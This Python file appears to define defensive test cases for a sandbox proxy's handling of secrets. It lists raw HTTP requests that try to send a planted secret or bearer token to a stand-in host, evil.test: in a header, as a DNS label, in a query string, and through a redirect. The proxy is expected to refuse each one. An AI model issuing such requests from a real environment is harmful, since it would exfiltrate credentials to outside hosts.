"""Secrets (attacks.md section 5): where they are not, and what does not carry them out."""

from __future__ import annotations

from runtime.probe.corpus.build import FIX_SECRETS, checked, refused, sent, tunnelled
from runtime.probe.corpus.case import Case

CASES: tuple[Case, ...] = (
    checked("S-01a", "the planted secret in other files and processes", "only_own_secrets", group="secrets", fix=FIX_SECRETS, value="{planted}"),
    checked("S-01b", "who may read the env file", "env_file_is_private", group="secrets", fix=FIX_SECRETS),
    Case("S-02", "secrets", "the planted secret in the engine's records, the audit and the run's log", "outside",
         {"name": "planted_is_nowhere"}, checked("x", "x", "x").expect, FIX_SECRETS),
    Case("S-03", "secrets", "the proxy's token in the engine's records and the audit", "outside",
         {"name": "token_is_nowhere"}, checked("x", "x", "x").expect, FIX_SECRETS),
    sent("S-05", "credentials in a refusal", "GET http://{m}.evil.test/ HTTP/1.1\r\nHost: {m}.evil.test\r\nAuthorization: Bearer {planted}\r\n{AUTH}\r\n",
         refused("not_allowed_host"), group="secrets"),
    sent("S-11", "clear text to a host that is listed for TLS only", "GET http://paths.test/v1/{m} HTTP/1.1\r\nHost: paths.test\r\nAuthorization: Bearer {planted}\r\n{AUTH}\r\n",
         refused("port"), group="secrets"),
    sent("S-19a", "a proxy token that is nobody's", "CONNECT ok.test:443 HTTP/1.1\r\nHost: ok.test:443\r\nProxy-Authorization: Basic eDp5\r\n\r\n",
         refused("no_grant"), group="secrets", fix="proxy/hooks/requests.py: the token is bound to the network"),
    sent("S-19b", "a proxy authorization that is no token", "CONNECT ok.test:443 HTTP/1.1\r\nHost: ok.test:443\r\nProxy-Authorization: Bearer {m}\r\n\r\n",
         refused("no_grant"), group="secrets", fix="proxy/hooks/requests.py: the token is bound to the network"),
    sent("S-13a", "the planted secret as a host name", "CONNECT {planted_label}.{m}.evil.test:443 HTTP/1.1\r\nHost: {planted_label}.{m}.evil.test:443\r\n{AUTH}\r\n",
         refused("not_allowed_host"), group="secrets"),
    sent("S-13b", "the planted secret in a path of an unlisted host", "GET http://{m}.evil.test/?k={planted} HTTP/1.1\r\nHost: {m}.evil.test\r\n{AUTH}\r\n",
         refused("not_allowed_host"), group="secrets"),
    tunnelled("S-10", "a redirect that would carry an authorization elsewhere",
              "GET /redirect?to=https://{m}.evil.test/ HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer {planted}\r\nConnection: close\r\n\r\n",
              refused("host_mismatch"), group="secrets"),
)  # fmt: skip
